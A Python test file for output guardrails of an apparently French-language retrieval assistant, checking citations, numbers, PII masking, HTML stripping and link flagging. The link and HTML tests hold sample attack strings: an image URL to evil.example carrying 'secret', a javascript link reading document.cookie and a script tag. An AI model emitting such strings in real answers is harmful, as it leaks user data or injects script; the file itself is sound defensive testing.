"""Output checks: citations must name given passages, numbers must come from cited passages."""

from __future__ import annotations

import pytest

from guardrails.output import AI_DISCLOSURE, check_answer, cited_markers, numbers_in, strip_html
from guardrails.pii.masking import PiiSpan
from guardrails.screen import default_guardrails

PASSAGES = {
    1: "Objectif : réduire de 40 % les emails répétitifs, améliorer le délai de réponse.",
    2: "Résultats attendus : gain de 1h/jour par consultant ; pilote en 4 à 6 semaines.",
}


def test_a_grounded_answer_passes() -> None:
    answer = (
        "L'assistant vise une baisse de 40 % des emails répétitifs [1], avec un pilote de 4 à 6 semaines [2]."
    )
    assert check_answer(answer, PASSAGES).ok


def test_citation_to_a_passage_not_given_is_flagged() -> None:
    check = check_answer("Le Sponsor valide [3].", PASSAGES)
    assert [(i.kind, i.detail) for i in check.issues] == [("unknown_citation", "[3]")]


def test_number_absent_from_the_cited_passage_is_flagged() -> None:
    check = check_answer("Les emails baissent de 45 % [1]. Le pilote dure 6 semaines [1].", PASSAGES)
    assert sorted((i.kind, i.detail) for i in check.issues) == [
        ("unsupported_number", "45"),
        ("unsupported_number", "6"),
    ]


def test_dates_and_french_number_formats() -> None:
    passages = {1: "Révision annuelle, budget de 12 500 € et taux de 8,5 % au 14 mars 2024."}
    assert check_answer("Budget : 12 500 € [1], taux 8,5 % [1], le 14 mars 2024 [1].", passages).ok
    assert not check_answer("Budget : 12 600 € [1].", passages).ok
    assert numbers_in("12 500 € et 8,5 % [3] <PERSON_2>") == {"12500", "8.5"}


def test_markers_in_order_and_disclosure_available() -> None:
    assert cited_markers("a [2] b [1] c [2]") == [2, 1]
    assert "assistant IA" in AI_DISCLOSURE["fr"] and "AI assistant" in AI_DISCLOSURE["en"]


def test_pii_in_an_answer_is_masked_again() -> None:
    screened = default_guardrails().screen_answer("Contactez Marie Dupont au 06 12 34 56 78 [1].", PASSAGES)
    assert screened.masked_text == "Contactez <PERSON_1> au <PHONE_1> [1]."
    assert [s.entity for s in screened.pii] == ["PERSON", "PHONE"]


def test_lines_quoting_a_passage_are_not_analysed_others_are(monkeypatch: pytest.MonkeyPatch) -> None:
    guardrails = default_guardrails()
    passages = {1: "Le comité réunit Marie Dupont et la DSI chaque trimestre pour revoir la charte."}
    answer = (
        "- Le comité réunit Marie Dupont et la DSI chaque trimestre [1]\n"
        "Écrivez à Paul Martin (paul.martin@exemple.fr) [1]."
    )
    analysed: list[str] = []
    find = guardrails.masker.find

    def recorded_find(text: str) -> list[PiiSpan]:
        analysed.append(text)
        return find(text)

    monkeypatch.setattr(guardrails.masker, "find", recorded_find)
    screened = guardrails.screen_answer(answer, passages)
    quoting, other = answer.split("\n")
    assert analysed == [" " * len(quoting) + "\n" + other]  # same offsets, the quoting line blank
    assert screened.masked_text == quoting + "\nÉcrivez à <PERSON_1> (<EMAIL_1>) [1]."


def test_images_and_links_to_anything_the_passages_do_not_hold_are_flagged() -> None:
    passages = {1: "Voir le guide sur https://intranet.example/ia pour la charte."}
    flagged = [
        "Voir ![x](http://evil.example/p.png?q=secret) [1].",
        "Voir [ici](http://evil.example) [1].",
        "Voir [ici](javascript:alert(document.cookie)) [1].",
        "Voir <https://evil.example/a> [1].",
        "Voir data:text/html,bonjour [1].",
    ]
    for answer in flagged:
        assert {i.kind for i in check_answer(answer, passages).issues} == {"link"}, answer
    assert check_answer("Le guide est sur https://intranet.example/ia [1].", passages).ok
    assert check_answer("Le comité valide [1]. Puis le CODIR [1][1].", passages).ok


def test_a_whole_answer_must_cite_unless_it_is_an_allowed_sentence() -> None:
    abstain = {"Je ne trouve pas cette information dans le corpus."}
    check = check_answer("Le comité valide la charte.", PASSAGES, uncited_ok=abstain)
    assert [i.kind for i in check.issues] == ["no_citation"]
    assert check_answer("Je ne trouve pas cette information dans le corpus.", PASSAGES, uncited_ok=abstain).ok
    assert check_answer("Le comité valide la charte.", PASSAGES).ok  # a sentence alone may cite nothing


def test_html_is_stripped_but_masked_placeholders_stay() -> None:
    text, removed = strip_html("<p>Le <b>DPO</b> <PERSON_1> valide</p><script>alert(1)</script><!-- x -->.")
    assert removed and text == "Le DPO <PERSON_1> valide."
    assert strip_html("Le seuil est 3 < 5 et <EMAIL_2> reste.") == (
        "Le seuil est 3 < 5 et <EMAIL_2> reste.",
        False,
    )
